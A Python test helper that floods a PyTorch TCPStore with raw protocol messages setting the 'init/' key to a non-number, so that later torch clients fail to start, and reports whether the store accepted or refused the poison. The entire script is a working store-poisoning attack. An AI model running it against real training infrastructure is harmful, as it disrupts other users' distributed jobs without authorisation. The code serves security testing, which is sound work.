"""A store poisoner (stdlib only: it may run as another user): speaks torch's TCPStore protocol
from the first byte, over and over, to the address given, until killed.

Each try connects, sends ``VALIDATE``, ``SET init/ not-a-number`` (the key every torch client
adds to when it starts: a value that is no number makes that ``ADD`` fail) and a ``CHECK`` of the
key, and reads the answer: a READY byte means the poison landed (``poisoned``), the connection
closed unanswered means the store refused it (``refused``). Each outcome is printed once, the
first time, with the pid, so a test can wait for it. The port not listening yet is retried.
An optional third argument ends it after that many answered tries.
"""

import os
import socket
import sys
import time

VALIDATE = b"\x00" + (0x3C85F7CE).to_bytes(4, "little")
SET, CHECK = 1, 5


def vector(data: bytes) -> bytes:
    return len(data).to_bytes(8, "little") + data


def attempt(host: str, port: int) -> str | None:
    try:
        sock = socket.create_connection((host, port), timeout=10)
    except OSError:
        return None  # not listening (yet, or any more)
    with sock:
        try:
            sock.sendall(
                VALIDATE
                + bytes([SET])
                + vector(b"init/")
                + vector(b"not-a-number")
                + bytes([CHECK])
                + (1).to_bytes(8, "little")
                + vector(b"init/")
            )
            answer = sock.recv(1)
        except OSError:
            return "refused"
    return "poisoned" if answer == b"\x00" else "refused"


def main() -> None:
    host, port = sys.argv[1], int(sys.argv[2])
    tries = int(sys.argv[3]) if len(sys.argv) > 3 else -1
    said: set[str] = set()
    while tries:
        outcome = attempt(host, port)
        if outcome is None:
            time.sleep(0.01)
            continue
        tries -= 1
        if outcome not in said:
            said.add(outcome)
            print(f"{outcome} pid {os.getpid()}", flush=True)
        time.sleep(0.01)  # an attacker's pace, not a synchronisation: the test waits on the lines


if __name__ == "__main__":
    main()
